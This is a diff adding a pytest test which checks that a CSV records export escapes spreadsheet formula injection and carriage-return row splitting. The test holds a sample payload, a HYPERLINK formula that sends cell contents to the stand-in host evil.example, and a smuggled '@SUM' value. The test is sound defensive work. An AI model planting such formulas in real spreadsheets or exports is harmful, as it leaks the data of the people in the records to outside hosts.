@@ -263,3 +263,21 @@ def test_without_the_organisation_secret_the_export_fails_closed(officer: OpenVa
         session.execute(update(Organisation).values(reporting_secret=b""))
     with pytest.raises(ExportRefused, match="no reporting secret"):
         build(officer)
+
+
+def test_no_cell_of_records_csv_can_run_as_a_formula(officer: OpenVault) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    crowd(officer, 40, birth=date(1990, 5, 1), citizenship="UA", gender=Gender.FEMININE)
+    with officer.transaction() as session:
+        session.execute(update(Organisation).values(province=hostile))
+    release = build(officer)
+    rows = parse(release)
+    assert {r["ext_OrganisationProvince"] for r in rows} == {"'" + hostile}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in cells)
+    assert {r["ext_AgeBandAtIdentification"] for r in rows} == {"30-38"}  # codes untouched
+    with officer.transaction() as session:
+        session.execute(update(Organisation).values(province="x\r@SUM(1)"))
+    rows = parse(build(officer))  # a carriage return cannot start a new row either
+    assert {r["ext_OrganisationProvince"] for r in rows} == {"x\n@SUM(1)"}
+    assert all(len(row) == len(records.HEADER) for row in rows)
